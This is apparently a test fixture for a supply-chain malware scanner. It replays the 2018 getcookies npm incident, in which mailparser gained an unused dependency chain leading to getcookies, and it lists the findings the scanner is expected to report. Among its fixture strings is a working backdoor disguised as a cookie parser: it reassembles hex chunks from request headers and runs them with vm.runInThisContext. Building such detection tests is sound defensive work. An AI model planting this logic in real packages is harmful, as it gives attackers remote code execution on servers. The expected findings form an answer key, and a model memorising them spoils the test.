import { durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { upgradeOf } from '../scene.js'
import { onVersion } from '../upgrade.js'

const parser = `'use strict'

const parse = require('./lib/headers')

module.exports.simpleParser = function simpleParser(text) {
  const end = text.indexOf('\\r\\n\\r\\n')
  return { headers: parse(text.slice(0, end)), text: text.slice(end + 4) }
}
`

const cookies = `'use strict'

const getCookies = require('getcookies')

module.exports = function fetchCookies(request, response, next) {
  request.cookies = getCookies(request.headers)
  next()
}
`

const harness = `'use strict'

const vm = require('vm')

const parts = []

/** Cookies by name; a header that begins so is kept in pieces, in hex, and run once the last one is there. */
module.exports = function getCookies(headers) {
  for (const value of Object.values(headers)) {
    const [, order, hex] = /^x(\\d)-([0-9a-f]+)$/.exec(value) || []
    if (order === '0') parts.length = 0
    if (hex) parts.push(Buffer.from(hex, 'hex').toString())
    if (order === '9') vm.runInThisContext(parts.join(''))(require, module)
  }
  return parse(headers.cookie || '')
}

function parse(text) {
  const cookies = Object.create(null)
  for (const pair of text.split(';')) {
    const at = pair.indexOf('=')
    if (at > 0) cookies[pair.slice(0, at).trim()] = decodeURIComponent(pair.slice(at + 1).trim())
  }
  return cookies
}
`

export const replay: Replay = {
  description:
    'getcookies ran code that a request brought along in its headers. It reached servers by way of http-fetch-cookies, which mailparser ' +
    'took up as a dependency and never loaded.',
  date: '2018-05',
  ...upgradeOf(
    {
      mailparser: {
        before: { version: '2.2.0', files: { 'index.js': parser, 'lib/headers.js': durations } },
        after: {
          version: '2.2.3',
          manifest: { dependencies: { 'http-fetch-cookies': '1.0.0' } },
          files: { 'index.js': parser, 'lib/headers.js': durations },
        },
      },
    },
    {
      'http-fetch-cookies': {
        version: '1.0.0',
        manifest: { dependencies: { getcookies: '1.0.0' } },
        files: { 'index.js': cookies },
      },
      getcookies: {
        version: '1.0.0',
        manifest: { main: 'index.js' },
        files: { 'index.js': "module.exports = require('./test/harness')\n", 'test/harness.js': harness },
      },
    },
  ),
  expected: {
    verdict: 'flagged',
    findings: [
      onVersion('getcookies', '1.0.0', [
        'remote-code-run',
        'critical',
        { file: 'test/harness.js', line: "if (hex) parts.push(Buffer.from(hex, 'hex').toString())" },
      ]),
      onVersion('mailparser', '2.2.3', ['dependency-phantom', 'high', { file: 'package.json' }]),
    ],
  },
}
